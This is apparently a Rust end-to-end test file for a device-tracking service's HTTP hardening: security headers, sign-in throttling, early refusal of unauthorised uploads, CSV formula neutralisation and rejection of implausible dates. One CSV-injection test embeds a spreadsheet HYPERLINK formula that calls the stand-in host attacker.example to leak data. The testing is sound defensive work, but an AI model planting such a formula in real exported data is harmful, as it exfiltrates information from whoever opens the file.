//! End to end: HTTP hardening over real HTTP against the real binary. Every response says
//! `no-store`, `nosniff` and no framing; sign-in is throttled per client address and in total;
//! an upload by anyone but a coordinator is refused before its body is read; CSV cells a
//! spreadsheet would run as formulas are neutralised; implausible event times become dead
//! letters, and imports with implausible dates are refused row by row.

mod support;

use reqwest::StatusCode;
use reqwest::header::{self, HeaderMap};
use serde_json::{Value, json};
use std::net::IpAddr;
use std::time::Duration;
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// An HTTP client whose connections come from `ip` (any 127.x.y.z is this machine), so one
/// test can be several clients to the server.
fn client_from(ip: &str) -> reqwest::Client {
    let ip: IpAddr = ip.parse().expect("address");
    reqwest::Client::builder()
        .local_address(ip)
        .build()
        .expect("client")
}

/// The coordinator's account of the sign-in tests, and its password.
const USER: &str = "koordinator";
const PASSWORD: &str = "et langt nok passord";

/// A server with the coordinator's personal account ([`USER`], [`PASSWORD`]).
async fn server_with_account() -> Server {
    let s = Server::start(Scratch::new()).await;
    create_user(
        &s.scratch.database_url(),
        s.scratch.dir.path(),
        USER,
        &["--role", "coordinator"],
        PASSWORD,
    );
    s
}

async fn sign_in_from(s: &Server, ip: &str, username: &str, password: &str) -> reqwest::Response {
    client_from(ip)
        .post(format!("{}/api/session", s.vft.api))
        .header(header::CONTENT_TYPE, "application/json")
        .body(json!({ "username": username, "password": password }).to_string())
        .send()
        .await
        .expect("POST /api/session")
}

fn header_text(headers: &HeaderMap, name: &header::HeaderName) -> String {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned()
}

fn retry_after(resp: &reqwest::Response) -> u64 {
    header_text(resp.headers(), &header::RETRY_AFTER)
        .parse()
        .unwrap_or_else(|_| panic!("a Retry-After of whole seconds: {:?}", resp.headers()))
}

#[tokio::test]
async fn every_response_says_no_store_nosniff_and_no_framing() {
    let s = Server::start(Scratch::new()).await;
    let api = &s.vft.api;
    let client = reqwest::Client::new();
    let bearer = |r: reqwest::RequestBuilder| r.bearer_auth(&s.coordinator);
    let requests: Vec<(&str, reqwest::RequestBuilder, StatusCode)> = vec![
        (
            "JSON",
            bearer(client.get(format!("{api}/api/v1/rollups/devices?year=2025"))),
            StatusCode::OK,
        ),
        (
            "CSV",
            bearer(client.get(format!("{api}/api/v1/devices?format=csv"))),
            StatusCode::OK,
        ),
        (
            "no token",
            client.get(format!("{api}/api/v1/devices")),
            StatusCode::UNAUTHORIZED,
        ),
        (
            "municipality token, other municipality",
            client
                .get(format!("{api}/api/v1/devices?municipality=3330"))
                .bearer_auth(&s.aal),
            StatusCode::FORBIDDEN,
        ),
        (
            "bad parameter",
            bearer(client.get(format!("{api}/api/v1/rollups/devices?year=abc"))),
            StatusCode::BAD_REQUEST,
        ),
        (
            "no such route",
            bearer(client.get(format!("{api}/api/v1/no-such-thing"))),
            StatusCode::NOT_FOUND,
        ),
        (
            "wrong method",
            bearer(client.get(format!("{api}/api/v1/months/2025-01/publish"))),
            StatusCode::METHOD_NOT_ALLOWED,
        ),
        (
            "sign-in refused",
            client
                .post(format!("{api}/api/session"))
                .header(header::CONTENT_TYPE, "text/plain")
                .body("token=x"),
            StatusCode::BAD_REQUEST,
        ),
        (
            "OpenAPI",
            client.get(format!("{api}/api/openapi.json")),
            StatusCode::OK,
        ),
        (
            "health",
            client.get(format!("{api}/healthz")),
            StatusCode::OK,
        ),
        (
            "no such UI file",
            client.get(format!("{api}/ui/no-such-file.js")),
            StatusCode::NOT_FOUND,
        ),
    ];
    for (what, request, status) in requests {
        let resp = request.send().await.expect("request");
        assert_eq!(resp.status(), status, "{what}");
        let h = resp.headers();
        assert_eq!(header_text(h, &header::CACHE_CONTROL), "no-store", "{what}");
        assert_eq!(
            header_text(h, &header::X_CONTENT_TYPE_OPTIONS),
            "nosniff",
            "{what}"
        );
        assert_eq!(header_text(h, &header::X_FRAME_OPTIONS), "DENY", "{what}");
        let policy = header_text(h, &header::CONTENT_SECURITY_POLICY);
        assert!(
            policy.contains("frame-ancestors 'none'") && policy.contains("default-src 'none'"),
            "{what}: {policy}"
        );
    }
    // The dashboard's page and files: revalidated (not no-store: they hold no personal data
    // and carry an ETag), never framed, their own self-only policy.
    for path in ["/", "/ui/app.js"] {
        let resp = client
            .get(format!("{api}{path}"))
            .send()
            .await
            .expect("GET");
        assert_eq!(resp.status(), StatusCode::OK, "{path}");
        let h = resp.headers();
        assert_eq!(header_text(h, &header::CACHE_CONTROL), "no-cache", "{path}");
        assert_eq!(header_text(h, &header::X_CONTENT_TYPE_OPTIONS), "nosniff");
        assert_eq!(header_text(h, &header::X_FRAME_OPTIONS), "DENY", "{path}");
        let policy = header_text(h, &header::CONTENT_SECURITY_POLICY);
        for directive in ["default-src 'self'", "frame-ancestors 'none'"] {
            assert!(policy.contains(directive), "{path}: {policy}");
        }
    }
}

#[tokio::test]
async fn wrong_passwords_are_throttled_per_client_and_the_right_password_still_works() {
    let s = server_with_account().await;
    // Guesses at accounts that do not exist (guessing at the coordinator's would lock it).
    for i in 0..5 {
        let resp = sign_in_from(&s, "127.0.0.1", &format!("guess{i}"), "wrong password").await;
        assert_eq!(
            resp.status(),
            StatusCode::UNAUTHORIZED,
            "wrong password {i}"
        );
    }
    // The sixth in a row must wait: 429 with Retry-After, and its password is not looked at.
    let refused = sign_in_from(&s, "127.0.0.1", "guess5", "wrong password").await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait = retry_after(&refused);
    assert!((1..=4).contains(&wait), "Retry-After {wait}");
    assert_eq!(
        header_text(refused.headers(), &header::CACHE_CONTROL),
        "no-store"
    );
    let body: Value = refused.json().await.expect("JSON error");
    assert_eq!(body["error"], "too_many_requests");
    // Even the right password waits on this client.
    let held = sign_in_from(&s, "127.0.0.1", USER, PASSWORD).await;
    assert_eq!(held.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(held.headers().get(header::SET_COOKIE).is_none());
    // Another client signs in at once, and bearer tokens are not held up.
    let other = sign_in_from(&s, "127.0.0.2", USER, PASSWORD).await;
    assert_eq!(other.status(), StatusCode::OK);
    assert!(other.headers().get(header::SET_COOKIE).is_some());
    assert_eq!(s.get("/api/v1/session").await["role"], "coordinator");
    // After the wait, the first client signs in with the right password.
    tokio::time::sleep(Duration::from_secs(wait)).await;
    let again = sign_in_from(&s, "127.0.0.1", USER, PASSWORD).await;
    assert_eq!(again.status(), StatusCode::OK);
    // Which started its count again: one wrong password is a plain 401.
    let one = sign_in_from(&s, "127.0.0.1", USER, "wrong password").await;
    assert_eq!(one.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn many_clients_guessing_together_make_every_sign_in_wait() {
    let s = server_with_account().await;
    // 100 wrong passwords in a minute from 20 addresses, 5 each (none of them held up alone).
    for client in 0..20 {
        let ip = format!("127.0.1.{}", client + 1);
        for i in 0..5 {
            let resp = sign_in_from(&s, &ip, &format!("guess{client}x{i}"), "wrong password").await;
            assert_eq!(resp.status(), StatusCode::UNAUTHORIZED, "{ip} guess {i}");
        }
    }
    // Now a client that never guessed waits too, until the window ends.
    let fresh = sign_in_from(&s, "127.0.2.1", USER, PASSWORD).await;
    assert_eq!(fresh.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait = retry_after(&fresh);
    assert!((1..=60).contains(&wait), "Retry-After {wait}");
    // Bearer tokens still work: only sign-in is held.
    assert_eq!(s.get("/api/v1/session").await["role"], "coordinator");
}

/// Posts an upload that claims `total` bytes to `path` over a raw connection and keeps
/// sending until the server answers, stops taking bytes for 2 s, or all is sent. Returns the
/// status, the bytes sent when the answer came, and the bytes the server took in all.
async fn upload(api: &str, path: &str, token: Option<&str>, total: u64) -> (u16, u64, u64) {
    let authority = api.trim_start_matches("http://");
    let stream = tokio::net::TcpStream::connect(authority)
        .await
        .expect("connect");
    let (mut read, mut write) = stream.into_split();
    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {authority}\r\n{auth}Content-Type: text/csv\r\n\
         Content-Length: {total}\r\n\r\n"
    );
    write.write_all(head.as_bytes()).await.expect("head");
    let sent = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let writer = {
        let sent = sent.clone();
        tokio::spawn(async move {
            let chunk = vec![b'x'; 64 * 1024];
            let mut done = 0u64;
            while done < total {
                let n = usize::try_from((total - done).min(chunk.len() as u64)).expect("small");
                match tokio::time::timeout(Duration::from_secs(2), write.write_all(&chunk[..n]))
                    .await
                {
                    Ok(Ok(())) => {
                        done += n as u64;
                        sent.store(done, std::sync::atomic::Ordering::SeqCst);
                    }
                    // Refused (the server closed) or stalled (it reads no more).
                    _ => break,
                }
            }
            // Kept open: a half-closed connection is not what a slow uploader sends.
            (done, write)
        })
    };
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    let status = tokio::time::timeout(Duration::from_secs(60), async {
        loop {
            let n = read.read(&mut buf).await.expect("read the answer");
            assert!(n > 0, "closed without an answer");
            answer.extend_from_slice(&buf[..n]);
            let text = String::from_utf8_lossy(&answer);
            if text.contains("\r\n\r\n") {
                return text
                    .split_whitespace()
                    .nth(1)
                    .and_then(|c| c.parse::<u16>().ok())
                    .expect("a status line");
            }
        }
    })
    .await
    .expect("no answer within 60 s");
    let sent_at_answer = sent.load(std::sync::atomic::Ordering::SeqCst);
    let (taken, _write) = writer.await.expect("writer");
    (status, sent_at_answer, taken)
}

#[tokio::test]
async fn an_upload_by_anyone_but_a_coordinator_is_refused_before_its_body_is_read() {
    let s = Server::start(Scratch::new()).await;
    let total: u64 = 150 * 1024 * 1024;
    let path = "/api/v1/imports/hepro?as_of=2025-12-31";
    for (who, token, status) in [
        ("a municipality token", Some(s.aal.as_str()), 403),
        ("no token", None, 401),
        ("a wrong token", Some("vft_not-a-token"), 401),
    ] {
        let (got, sent_at_answer, taken) = upload(&s.vft.api, path, token, total).await;
        assert_eq!(got, status, "{who}");
        eprintln!("{who}: answered after {sent_at_answer} bytes, {taken} taken");
        // The answer came while the upload was far from done, and vft read no more of it
        // than the connection's buffers hold (a few MB on loopback), not the 150 MB.
        assert!(
            sent_at_answer < total,
            "{who}: answered after the whole upload"
        );
        assert!(
            taken < 32 * 1024 * 1024,
            "{who}: vft took {taken} bytes of a refused upload"
        );
    }
    // A coordinator's upload is read and imported as before.
    let ok = reqwest::Client::new()
        .post(format!("{}{path}", s.vft.api))
        .bearer_auth(&s.coordinator)
        .body("Serienr;Produkt;Kommunenr;Brukerref;Status;Installert\r\nHP-1;TA;3328;;I drift;01.02.2025\r\n")
        .send()
        .await
        .expect("POST");
    assert_eq!(ok.status(), StatusCode::OK);
}

/// Cells of a CSV body (RFC 4180 quoting), one Vec per line.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\n', false) => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => cell.push(c),
        }
    }
    rows
}

async fn csv_of(s: &Server, path: &str) -> Vec<Vec<String>> {
    let resp = get(&format!("{}{path}", s.vft.api), Some(&s.coordinator)).await;
    assert_eq!(resp.status(), StatusCode::OK, "{path}");
    assert!(header_text(resp.headers(), &header::CONTENT_TYPE).starts_with("text/csv"));
    csv_rows(&resp.text().await.expect("body"))
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() {
    let s = Server::start(Scratch::new()).await;
    let formula = r#"=HYPERLINK("http://attacker.example/?leak","click")"#;
    let install = |id: &str, device: &str, recipient: &str| {
        json!({ "id": id, "ts": "2025-06-01T08:00:00Z", "municipality": "3328", "device": device,
                "type": "installed", "kind": "safety_alarm", "recipient": recipient })
    };
    let mut p = Publisher::connect(&s.broker, "hardening-csv").await;
    // A gateway id may start with '-' too.
    p.publish(
        "vft/v1/hepro/-gw/events",
        install("c1", formula, "@SUM(1+1)").to_string(),
    )
    .await;
    p.publish(
        "vft/v1/hepro/gw-1/events",
        install("c2", "-27", "+3").to_string(),
    )
    .await;
    p.wait_all_acked(Duration::from_secs(60)).await;
    p.disconnect().await;
    s.wait_events(2).await;

    // The JSON says exactly what was sent.
    let page = s.get("/api/v1/devices").await;
    let devices: Vec<&str> = page["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|d| d["device"].as_str())
        .collect();
    assert!(devices.contains(&formula), "{page}");

    let rows = csv_of(&s, "/api/v1/devices?format=csv").await;
    let head = &rows[0];
    let col = |name: &str| head.iter().position(|h| h == name).expect(name);
    let (device, gateway, recipient) = (col("device"), col("gateway"), col("recipient"));
    let by_device = |d: &str| {
        rows.iter()
            .find(|r| r[device] == d)
            .unwrap_or_else(|| panic!("no row for {d}: {rows:?}"))
            .clone()
    };
    let attack = by_device(&format!("'{formula}"));
    assert_eq!(attack[gateway], "'-gw");
    assert_eq!(attack[recipient], "'@SUM(1+1)");
    // Plain numbers stay numbers.
    let number = by_device("-27");
    assert_eq!(number[recipient], "+3");
    assert!(
        !rows
            .iter()
            .flatten()
            .any(|c| c.starts_with('=') || c.starts_with('@')),
        "{rows:?}"
    );

    // The reconciliation's subjects are recipients: the same.
    let rows = csv_of(
        &s,
        "/api/v1/reconciliation?from=hepro&to=atea&at=2025-12-31&format=csv",
    )
    .await;
    let subject = rows[0]
        .iter()
        .position(|h| h == "subject")
        .expect("subject");
    let subjects: Vec<&str> = rows[1..].iter().map(|r| r[subject].as_str()).collect();
    assert!(subjects.contains(&"'@SUM(1+1)"), "{rows:?}");
    assert!(subjects.contains(&"+3"), "{rows:?}");
    let devices = rows[0]
        .iter()
        .position(|h| h == "devices")
        .expect("devices");
    assert!(
        rows[1..]
            .iter()
            .any(|r| r[devices] == format!("hepro/{formula}")),
        "a cell that does not start with a formula character is left as it is: {rows:?}"
    );
}

/// The dead letters stored so far (newest first).
async fn dead_letters(s: &Server) -> Vec<Value> {
    s.get("/api/v1/dead-letters?limit=1000").await["items"]
        .as_array()
        .expect("items")
        .clone()
}

#[tokio::test]
async fn events_with_implausible_times_become_dead_letters_and_imports_refuse_such_dates() {
    let s = Server::start(Scratch::new()).await;
    let now = chrono::Utc::now();
    let rfc = |t: chrono::DateTime<chrono::Utc>| t.to_rfc3339();
    let event = |id: &str, ts: &str| {
        json!({ "id": id, "ts": ts, "municipality": "3328", "device": format!("T-{id}"),
                "type": "installed", "kind": "safety_alarm" })
    };
    let implausible = [
        ("year0", "0000-01-01T00:00:00Z".to_owned()),
        ("year9999", "9999-12-31T23:59:59Z".to_owned()),
        ("y1999", "1999-12-31T23:59:59+00:00".to_owned()),
        ("in3days", rfc(now + chrono::Duration::days(3))),
    ];
    let good = rfc(now - chrono::Duration::hours(1));
    let mut events = vec![event("plausible", &good)];
    events.extend(implausible.iter().map(|(id, ts)| event(id, ts)));
    // A batch too: its plausible element is kept beside the implausible one.
    let batch = json!([
        event("batch-ok", "2025-03-01T12:00:00+01:00"),
        event("batch-late", "2999-01-01T00:00:00Z")
    ]);
    let mut p = Publisher::connect(&s.broker, "hardening-times").await;
    for e in &events {
        p.publish("vft/v1/hepro/gw-1/events", e.to_string()).await;
    }
    p.publish("vft/v1/hepro/gw-1/events", batch.to_string())
        .await;
    p.wait_all_acked(Duration::from_secs(60)).await;
    p.disconnect().await;
    s.wait_events(2).await;
    let dead = eventually("5 dead letters", Duration::from_secs(60), || async {
        let d = dead_letters(&s).await;
        (d.len() >= 5).then_some(d)
    })
    .await;
    assert_eq!(dead.len(), 5, "{dead:?}");
    for d in &dead {
        assert_eq!(d["reason_code"], "implausible_time", "{d}");
    }
    for (id, _) in &implausible {
        assert!(
            dead.iter()
                .any(|d| d["payload"].as_str().is_some_and(|p| p.contains(id))),
            "{id} is not a dead letter: {dead:?}"
        );
    }
    let early = dead
        .iter()
        .find(|d| d["payload"].as_str().is_some_and(|p| p.contains("year0")))
        .expect("year 0");
    assert!(
        early["reason"]
            .as_str()
            .is_some_and(|r| r.contains("2000-01-01")),
        "{early}"
    );
    // Only the plausible events were stored, and the dashboard opens on their year.
    let devices = s.get("/api/v1/devices").await;
    let stored: Vec<&str> = devices["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|d| d["device"].as_str())
        .collect();
    assert_eq!(stored.len(), 2, "{devices}");
    let session = s.get("/api/v1/session").await;
    let latest: chrono::DateTime<chrono::Utc> =
        serde_json::from_value(session["latest_activity"].clone()).expect("latest_activity");
    assert!(latest <= now, "{session}");

    // Imports: an implausible as_of is refused; rows installed at implausible dates are
    // unreadable rows, the others are kept.
    let import = |as_of: &str, body: String| {
        reqwest::Client::new()
            .post(format!("{}/api/v1/imports/atea?as_of={as_of}", s.vft.api))
            .bearer_auth(&s.coordinator)
            .body(body)
            .send()
    };
    let header = "serial,category,municipality_no,client_ref,state,installed_on,site\n";
    let far = import(
        "9999-01-01",
        format!("{header}A1,alarm,3328,,active,2025-01-01,x\n"),
    )
    .await
    .expect("POST");
    assert_eq!(far.status(), StatusCode::BAD_REQUEST);
    let why: Value = far.json().await.expect("JSON");
    assert!(
        why["message"].as_str().is_some_and(|m| m.contains("as_of")),
        "{why}"
    );
    let rows = format!(
        "{header}A1,alarm,3328,,active,2025-01-01,x\nA2,alarm,3328,,active,9999-12-31,x\n\
         A3,alarm,3328,,active,1970-01-01,x\nA4,alarm,3328,,active,{},x\n",
        (now + chrono::Duration::days(3)).date_naive()
    );
    let report: Value = import("2025-12-31", rows)
        .await
        .expect("POST")
        .json()
        .await
        .expect("JSON");
    assert_eq!(report["rows"], 1, "{report}");
    let lines: Vec<u64> = report["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| e["line"].as_u64().expect("line"))
        .collect();
    assert_eq!(lines, [3, 4, 5], "{report}");
    assert!(
        report["errors"]
            .as_array()
            .expect("errors")
            .iter()
            .all(|e| e["column"] == "installed_on"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("implausible"))),
        "{report}"
    );
}
